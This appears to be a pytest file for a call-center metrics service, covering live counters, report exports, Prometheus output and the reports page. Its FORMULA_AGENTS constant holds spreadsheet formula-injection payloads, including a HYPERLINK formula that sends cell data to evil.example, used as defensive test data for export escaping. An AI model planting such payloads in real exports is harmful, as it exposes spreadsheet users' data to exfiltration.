"""Live counters from events, and the reports / live / Prometheus endpoints over HTTP."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from collections.abc import AsyncIterator
from datetime import datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import aiohttp
import pytest
from aiohttp import web
from openpyxl import load_workbook  # type: ignore[import-untyped]
from prometheus_client.parser import text_string_to_metric_families

import callcenter.metrics.store  # noqa: F401
from callcenter.calls.store import CallStore
from callcenter.core.call_record import CallRecord, Outcome
from callcenter.core.events import (
    AgentAnswered,
    ChannelCreated,
    ChannelHungUp,
    QueueJoined,
    QueueMemberChanged,
)
from callcenter.db import create_engine_for, upgrade
from callcenter.metrics.http import setup
from callcenter.metrics.kpis import Thresholds
from callcenter.metrics.live import LiveCounters
from callcenter.metrics.prometheus import metrics_registry
from callcenter.metrics.report_store import ReportStore
from callcenter.web.security import USER_KEY, User

TZ = ZoneInfo("Asia/Shanghai")
T0 = datetime(2026, 3, 2, 9, 0, tzinfo=TZ).timestamp()
TH = Thresholds(line_capacity=5)
FORMULA_AGENTS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1)", "+1", "-2+3", "\tx")


def created(call: str, at: float, channel: str = "") -> ChannelCreated:
    return ChannelCreated(
        pbx="p",
        call_id=call,
        channel_id=channel or call,
        at=at,
        channel="PJSIP/trunk-1",
        context="from-pstn",
    )


def finished(n: int, outcome: Outcome, wait: float = 10.0) -> CallRecord:
    return CallRecord(
        pbx="p",
        call_id=f"f{n}",
        hotline="4008001000",
        started_at=T0 + n,
        queue="support",
        queue_joined_at=T0 + n + 5,
        agent="A" if outcome == "answered" else "",
        ended_at=T0 + n + 100,
        outcome=outcome,
        wait_s=wait,
        talk_s=60.0 if outcome == "answered" else None,
    )


def test_live_counters_follow_calls_agents_and_raise_alerts() -> None:
    live = LiveCounters(thresholds=TH)
    for n in range(4):
        live.apply(created(f"c{n}", T0 + n))
    live.apply(created("c0", T0 + 1, channel="c0.agent"))  # an agent leg is not a line
    live.apply(QueueJoined(pbx="p", call_id="c1", channel_id="c1", at=T0 + 10, queue="support"))
    live.apply(QueueJoined(pbx="p", call_id="c2", channel_id="c2", at=T0 + 20, queue="support"))
    live.apply(QueueJoined(pbx="p", call_id="c3", channel_id="c3", at=T0 + 30, queue="repair"))
    live.apply(AgentAnswered(pbx="p", call_id="c3", channel_id="c3", at=T0 + 40, queue="repair"))
    live.apply(
        ChannelHungUp(pbx="p", call_id="c0", channel_id="c0.agent", at=T0 + 41, channel="PJSIP/1-1")
    )
    for status, interface, paused in (
        (1, "PJSIP/1", False),
        (2, "PJSIP/2", False),
        (1, "PJSIP/3", True),
    ):
        live.apply(
            QueueMemberChanged(
                pbx="p", call_id="", at=T0, change="status", queue="support",
                interface=interface, status=status, paused=paused,
            )
        )  # fmt: skip
    snap = live.snapshot(T0 + 60)
    assert snap["lines_in_use"] == 4
    assert snap["calls_in_ivr"] == 1  # c0
    assert snap["waiting"] == {"support": {"waiting": 2, "longest_wait_s": 50.0}}
    assert snap["agents"] == {"idle": 1, "in_call": 1, "paused": 1}
    assert [a["kind"] for a in snap["alerts"]] == ["lines_high"]  # 4 of 5 lines: 80%
    live.apply(ChannelHungUp(pbx="p", call_id="c0", channel_id="c0", at=T0 + 61, channel="x"))
    assert live.snapshot(T0 + 62)["lines_in_use"] == 3

    for n in range(8):
        live.call_finished(finished(n, "answered"))
    for n in range(8, 12):
        live.call_finished(finished(n, "abandoned", wait=30))
    live.call_finished(finished(12, "short_abandon", wait=2))  # out of the denominator
    snap = live.snapshot(T0 + 200)
    assert snap["today"]["answer_rate"] == pytest.approx(8 / 12, abs=1e-4)
    kinds = {a["kind"] for a in snap["alerts"]}
    assert {"answer_rate_today", "answer_rate_hour"} <= kinds
    assert "接通率" in snap["alerts"][0]["zh"]
    assert live.snapshot(T0 + 86400)["today"]["offered"] == 0  # a new day starts empty


@pytest.fixture
async def client(tmp_path: Path) -> AsyncIterator[Any]:
    engine = create_engine_for(f"sqlite:///{tmp_path / 'db.sqlite'}")
    upgrade(engine)
    CallStore(engine).upsert_calls(
        [finished(n, "answered") for n in range(5)] + [finished(9, "abandoned", 40)]
    )
    # The next day: agents whose names a spreadsheet would run as formulas.
    for n, agent in enumerate(FORMULA_AGENTS):
        record = finished(100 + n, "answered")
        record.call_id, record.started_at = f"formula{n}", T0 + 86400 + n
        record.queue_joined_at, record.ended_at = T0 + 86400 + n + 5, T0 + 86400 + n + 100
        record.agent = agent
        CallStore(engine).upsert_calls([record])
    live = LiveCounters(thresholds=TH)
    live.apply(created("x", T0))
    live.call_finished(finished(1, "answered"))
    role = {"value": "supervisor"}

    @web.middleware
    async def middleware(request: web.Request, handler: Any) -> web.StreamResponse:
        if role["value"]:
            request[USER_KEY] = User(id=1, login="sup", role=role["value"])  # type: ignore[arg-type]
        return await handler(request)

    app = web.Application(middlewares=[middleware])
    clock = lambda: T0 + 300  # noqa: E731
    registry = metrics_registry(live, pbxes=["p", "idle"], clock=clock)
    # a staffing plan predicting 95 % for 09:00-09:30 and 85 % for 09:30-10:00 (as many calls)
    plan = tmp_path / "plan.json"
    rows = [
        {"start": T0 + i * 1800, "end": T0 + (i + 1) * 1800, "calls": 10,
         "predicted_answer_rate": rate}
        for i, rate in enumerate((0.95, 0.85))
    ]  # fmt: skip
    plan.write_text(json.dumps({"intervals": rows}), encoding="utf-8")
    names = {"zh": {"support": "咨询"}, "en": {"support": "Enquiries"}}
    setup(app, ReportStore(engine), live, TH, registry=registry, clock=clock, plan_file=str(plan),
          queue_names=lambda lang: names[lang])  # fmt: skip
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    port = site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]
    async with aiohttp.ClientSession(f"http://127.0.0.1:{port}") as session:
        yield session, role
    await runner.cleanup()
    engine.dispose()


async def test_reports_json_csv_xlsx_and_roles(client: Any) -> None:
    session, role = client
    query = "/api/reports?from=2026-03-02&to=2026-03-02&by=interval&interval=60"
    async with session.get(query) as response:
        assert response.status == 200
        body = await response.json()
    assert body["definitions"]["thresholds"]["line_capacity"] == 5
    row = next(r for r in body["rows"] if r["key"] == "2026-03-02 09:00")
    assert (row["offered"], row["answered"], row["peak_lines"]) == (6, 5, 6)
    assert body["total"]["answer_rate"] == pytest.approx(5 / 6, abs=1e-4)
    async with session.get(query + "&format=csv&lang=en") as response:
        text = (await response.read()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:3] == ["group", "offered", "answered"]
    async with session.get(query + "&format=xlsx") as response:
        book = load_workbook(io.BytesIO(await response.read()))
    assert book["report"].cell(1, 2).value == "进线"
    async with session.get("/api/reports?from=2026-03-02&to=yesterday") as response:
        assert response.status == 400
        assert "to" in (await response.json())["error"]["en"]
    for bad, message in [
        ("from=20260302&to=2026-03-02", "from: must be a date YYYY-MM-DD"),
        ("from=2026-03-02&to=2026-03-02&by=week", "by: must be one of"),
        ("from=2026-03-02&to=2026-03-02&interval=45", "interval: must be one of 15, 30, 60"),
        ("from=2026-03-02", "to: is required"),
    ]:
        async with session.get(f"/api/reports?{bad}") as response:
            assert response.status == 400
            assert (await response.json())["error"]["en"].startswith(message)
    role["value"] = "agent"
    async with session.get(query) as response:
        assert response.status == 403
    role["value"] = ""
    async with session.get(query) as response:
        assert response.status == 401
    async with session.get("/metrics") as response:  # the scraper needs no sign-in
        assert response.status == 200


async def test_exported_cells_never_start_a_formula(client: Any) -> None:
    session, _ = client
    query = "/api/reports?from=2026-03-03&to=2026-03-03&by=agent&lang=en"
    async with session.get(query + "&format=csv") as response:
        rows = list(csv.reader(io.StringIO((await response.read()).decode("utf-8-sig"))))
    groups = {row[0] for row in rows[1:] if row}
    assert {"'" + agent for agent in FORMULA_AGENTS} <= groups
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row)
    async with session.get(query + "&format=xlsx") as response:
        sheet = load_workbook(io.BytesIO(await response.read()))["report"]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert {"'" + agent for agent in FORMULA_AGENTS} <= {c.value for c in cells}
    assert all(c.data_type != "f" for c in cells)
    assert any(isinstance(c.value, int) and c.value == 1 for c in cells)  # numbers stay numbers


async def test_prometheus_exposition(client: Any) -> None:
    session, _ = client
    async with session.get("/metrics") as response:
        assert response.headers["Content-Type"].startswith("text/plain; version=0.0.4")
        text = await response.text()
    families = {f.name: f for f in text_string_to_metric_families(text)}
    samples = {
        (s.name, tuple(sorted(s.labels.items()))): s.value
        for f in families.values()
        for s in f.samples
    }
    assert samples[("callcenter_lines_in_use", (("pbx", "p"),))] == 1
    assert samples[("callcenter_lines_in_use", (("pbx", "idle"),))] == 0  # listed while idle
    assert samples[("callcenter_line_capacity", ())] == 5
    assert samples[("callcenter_calls_total", (("outcome", "answered"),))] == 1
    assert samples[("callcenter_answer_rate", (("pbx", "p"), ("window", "today")))] == 1.0
    assert ("callcenter_answer_rate", (("pbx", "idle"), ("window", "today"))) not in samples
    assert families["callcenter_calls"].type == "counter"
    for name in ("callcenter_lines_in_use", "callcenter_agents", "callcenter_answer_rate"):
        assert families[name].type == "gauge"
    assert "process_cpu_seconds_total" in text  # the registry's process metrics
    assert "python_info" in text and "python_gc_objects_collected_total" in text


async def test_prometheus_in_openmetrics_when_asked(client: Any) -> None:
    session, _ = client
    accept = "application/openmetrics-text; version=1.0.0"
    async with session.get("/metrics", headers={"Accept": accept}) as response:
        assert response.headers["Content-Type"].startswith("application/openmetrics-text")
        text = await response.text()
    assert "# TYPE callcenter_calls counter" in text
    assert text.endswith("# EOF\n")


def test_live_figures_per_pbx_and_queue() -> None:
    live = LiveCounters(thresholds=TH)
    for pbx, call, queue in (("east", "e1", "support"), ("east", "e2", "support"),
                             ("west", "w1", "repair"), ("west", "w2", "")):  # fmt: skip
        live.apply(ChannelCreated(pbx=pbx, call_id=call, channel_id=call, at=T0,
                                  channel="PJSIP/trunk-1", context="from-pstn"))  # fmt: skip
        if queue:
            live.apply(QueueJoined(pbx=pbx, call_id=call, channel_id=call, at=T0 + 5, queue=queue))
    for pbx, interface, status in (("east", "PJSIP/1", 1), ("west", "PJSIP/2", 2)):
        live.apply(
            QueueMemberChanged(pbx=pbx, call_id="", at=T0, change="status", queue="support",
                               interface=interface, status=status, paused=False)
        )  # fmt: skip
    live.call_finished(finished(1, "answered"))  # pbx "p"
    view = live.by_pbx(T0 + 20)
    assert sorted(view) == ["east", "p", "west"]
    assert view["east"].lines_in_use == 2 and view["east"].waiting["support"].waiting == 2
    assert view["east"].waiting["support"].longest_wait_s == 15.0
    assert view["west"].calls_in_ivr == 1 and list(view["west"].waiting) == ["repair"]
    assert dict(view["east"].agents) == {"idle": 1} and dict(view["west"].agents) == {"in_call": 1}
    assert view["p"].today.answered == 1 and view["p"].hour.answered == 1
    assert view["east"].today.offered == 0
    assert "p" not in live.by_pbx(T0 + 86400)  # a new day starts empty


async def test_reports_page_draws_charts_tables_and_export_links(client: Any) -> None:
    session, role = client
    async with session.get("/reports?from=2026-03-02&to=2026-03-02&interval=60") as response:
        assert response.status == 200
        page = await response.text()
    assert '<html lang="zh-CN">' in page and "分时段接通率与服务水平" in page
    assert 'data-chart="rates"' in page and 'data-chart="concurrency"' in page
    assert 'data-line="capacity"' in page and "线路容量 5" in page  # the capacity line
    assert 'data-line="answer_rate_target"' in page and "90%" in page
    assert 'data-series="answer_rate"' in page and 'data-series="service_level"' in page
    assert "<script" not in page and "http://" not in page  # server-drawn, nothing outside
    # the 09:00 hour holds the six calls: 5 answered, one abandoned after 40 s
    assert "<tr><td>2026-03-02 09:00</td><td>6</td><td>5</td><td>1</td><td>83.3%</td>" in page
    # no agent table with an answer rate per agent: the agent view has figures per agent
    assert "<tr><td>A</td>" not in page and "(none)" not in page
    views = re.findall(r'data-testid="view-(\w+)"', page)
    assert views == ["interval", "queue", "shift", "hotline", "agent", "month"]
    links = re.findall(r'data-testid="export-(\w+)-(\w+)" href="([^"]+)"', page)
    assert {(by, fmt) for by, fmt, _ in links} == {("interval", "csv"), ("interval", "xlsx")}
    for _by, fmt, href in links:
        async with session.get(html.unescape(href)) as response:
            assert response.status == 200
            assert response.headers["Content-Disposition"].endswith(f'.{fmt}"')
    async with session.get("/reports?from=2026-03-02&lang=en") as response:
        english = await response.text()
    assert '<html lang="en">' in english and "Concurrent lines" in english
    async with session.get("/reports?from=March") as response:
        assert response.status == 400
        assert "from" in await response.text()
    role["value"] = "agent"
    async with session.get("/reports") as response:
        assert response.status == 403
    role["value"] = ""
    async with session.get("/reports", allow_redirects=False) as response:
        assert response.status == 303 and response.headers["Location"].startswith("/login")


async def test_reports_page_defaults_to_today(client: Any) -> None:
    session, _ = client
    async with session.get("/reports") as response:  # the clock says 2026-03-02 09:05
        page = await response.text()
    assert 'name="from" value="2026-03-02"' in page and "2026-03-02 09:00" in page


async def test_reports_page_shows_the_plans_predicted_answer_rate_beside_the_actual(
    client: Any,
) -> None:
    session, _role = client
    async with session.get("/reports?from=2026-03-02&to=2026-03-02&interval=60") as response:
        page = await response.text()
    # the 09:00 hour: 83.3 % answered, the plan predicted (95 % + 85 %) / 2 = 90 %
    assert (
        "<th>接通率</th><th>计划接通率</th>" in page
        and "<tr><td>2026-03-02 09:00</td><td>6</td><td>5</td><td>1</td><td>83.3%</td>"
        "<td>90.0%</td>"
        in page
    )
    assert 'data-series="predicted_answer_rate"' in page
    async with session.get("/reports?from=2026-03-02&interval=30&lang=en") as response:
        english = await response.text()
    assert "Planned answer rate" in english
    assert "<td>85.0%</td>" in english  # 09:30, no calls yet: its prediction all the same


async def test_reports_page_views_by_queue_shift_hotline_agent_and_month(client: Any) -> None:
    session, role = client
    day = "from=2026-03-02&to=2026-03-02"
    async with session.get(f"/reports?view=queue&{day}") as response:
        assert response.status == 200
        page = await response.text()
    assert 'data-chart="by-queue"' in page and 'data-testid="by-queue"' in page
    # support (咨询 by name): 6 offered, 5 answered, 1 abandoned, no short abandon or voicemail
    assert (
        "<tr><td>咨询</td><td>6</td><td>5</td><td>1</td><td>0</td><td>0</td><td>83.3%</td>" in page
    )
    async with session.get(f"/reports?view=shift&{day}&lang=en") as response:
        page = await response.text()
    assert "By shift" in page and "<tr><td>2026-03-02 08:00-20:00</td><td>6</td>" in page
    async with session.get(f"/reports?view=hotline&{day}") as response:
        page = await response.text()
    assert "<tr><td>4008001000</td><td>6</td><td>5</td>" in page
    async with session.get(f"/reports?view=agent&{day}") as response:
        page = await response.text()
    assert "<tr><td>A</td><td>0</td><td>5</td><td>0</td><td>60</td>" in page
    assert "(none)" not in page and "100.0%" not in page  # no answer rate per agent
    # the abandoned call is its queue's: 6 offered, 1 unanswered
    assert "<tr><td>咨询</td><td>6</td><td>1</td><td>0</td><td>0</td><td>83.3%</td>" in page
    async with session.get(f"/reports?view=queue&{day}&lang=en") as response:
        assert "<tr><td>Enquiries</td><td>6</td>" in await response.text()
    links = re.findall(r'data-testid="export-agent-(\w+)" href="([^"]+)"', page)
    for fmt, href in links:
        async with session.get(html.unescape(href)) as response:
            assert response.status == 200, await response.text()
            assert response.headers["Content-Disposition"].endswith(f'.{fmt}"')
    async with session.get("/reports?view=month&month=2026-03") as response:
        page = await response.text()
    assert 'data-chart="month"' in page and 'name="month" value="2026-03"' in page
    assert (
        "<tr><td>2026-03-02</td><td>6</td><td>5</td><td>1</td><td>83.3%</td><td>未达标</td>" in page
    )
    assert (
        "<tr><td>2026-03-03</td><td>5</td><td>5</td><td>0</td><td>100.0%</td><td>达标</td>" in page
    )
    assert "1 / 2 天达到接通率目标" in page
    # every day of March has its line; a day without calls has no rate
    assert page.count('data-chart="month"') == 1 and page.count("<tr><td>2026-03-") == 31
    assert "<tr><td>2026-03-31</td><td>0</td><td>0</td><td>0</td><td>–</td><td>–</td>" in page
    async with session.get("/reports?view=month&month=March") as response:
        assert response.status == 400
    async with session.get("/reports?view=nonsense") as response:
        assert response.status == 400
    role["value"] = "agent"
    async with session.get(f"/api/reports/agents?{day}") as response:
        assert response.status == 403
